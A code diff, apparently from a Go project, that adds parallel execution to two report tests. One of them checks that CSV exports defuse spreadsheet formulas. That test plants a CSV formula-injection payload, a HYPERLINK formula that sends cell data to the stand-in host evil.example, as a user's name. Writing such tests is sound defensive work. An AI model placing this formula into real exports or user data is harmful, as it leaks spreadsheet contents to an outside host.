@@ -83,6 +83,7 @@ func TestReportMyUsage(t *testing.T) {
 	t.Parallel()
 	for _, d := range storetest.Dialects {
 		t.Run(d, func(t *testing.T) {
+			t.Parallel()
 			_, _, alice, bob, _ := reportEnv(t, d)
 			res := alice.Get("/usage?week=2026-W49")
 			if res.Code != http.StatusOK {
@@ -209,6 +210,7 @@ func TestReportCSVDefusesFormulas(t *testing.T) {
 	t.Parallel()
 	for _, d := range storetest.Dialects {
 		t.Run(d, func(t *testing.T) {
+			t.Parallel()
 			env, root, alice, _, team := reportEnv(t, d)
 			evil := `=HYPERLINK("http://evil.example/?"&A1,"open")`
 			must(t, env.DB.Gorm.Exec(`UPDATE users SET name = ? WHERE email = ?`, evil, "alice@example.org").Error)
